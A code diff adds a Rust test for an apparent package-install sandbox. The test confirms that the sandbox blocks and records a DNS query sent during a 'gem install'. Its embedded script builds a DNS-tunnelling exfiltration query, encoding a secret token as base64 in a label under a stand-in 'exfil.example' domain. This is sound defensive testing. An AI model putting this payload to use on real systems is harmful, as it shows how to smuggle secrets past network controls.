@@ -775,3 +775,56 @@ fn block_mode_stops_the_same_escapes_and_writes_only_where_the_install_may() {
             .any(|ev| touches(ev, &home.join(".ssh/id_rsa")))
     );
 }
+
+#[test]
+fn a_dns_query_is_refused_and_recorded_with_its_name() {
+    let resolver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    resolver.set_nonblocking(true).unwrap();
+    // A query for a name whose first label encodes data, sent to a stand-in resolver.
+    let script = r#"#!/bin/sh
+exec "$PY" - <<'PY'
+import os, socket, struct
+label = b"c2VjcmV0LXRva2VuLXZhbHVlLXRoYXQtaXMtbG9uZy1lbm91Z2gtdG8tbm90"
+q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+for part in (label, b"exfil", b"example"):
+    q += bytes([len(part)]) + part
+q += b"\0" + struct.pack("!HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    s.sendto(q, ("127.0.0.1", int(os.environ["DNS_PORT"])))
+    print("dns ESCAPED")
+except OSError as e:
+    print("dns blocked", e.errno)
+PY
+"#;
+    let (env, _bin) = stand_in(script);
+    let events_path = env.home.path().join("dns.json");
+    let out = run(env
+        .pkgwarden()
+        .args(["run", "--sandbox", "--events-json"])
+        .arg(&events_path)
+        .args(["--", "gem", "install", "x"])
+        .env("PY", python3())
+        .env(
+            "DNS_PORT",
+            resolver.local_addr().unwrap().port().to_string(),
+        ));
+    assert!(
+        stdout_str(&out).contains("dns blocked"),
+        "{}",
+        stdout_str(&out)
+    );
+    let mut buf = [0u8; 512];
+    assert!(
+        resolver.recv(&mut buf).is_err(),
+        "the query reached the resolver"
+    );
+    let doc: Value = serde_json::from_slice(&fs::read(&events_path).unwrap()).unwrap();
+    let dns = events(&doc, "dns");
+    assert_eq!(dns.len(), 1, "{doc:#}");
+    assert_eq!(
+        dns[0]["dns_query"],
+        "c2VjcmV0LXRva2VuLXZhbHVlLXRoYXQtaXMtbG9uZy1lbm91Z2gtdG8tbm90.exfil.example"
+    );
+    assert_eq!(dns[0]["action"], "denied");
+}
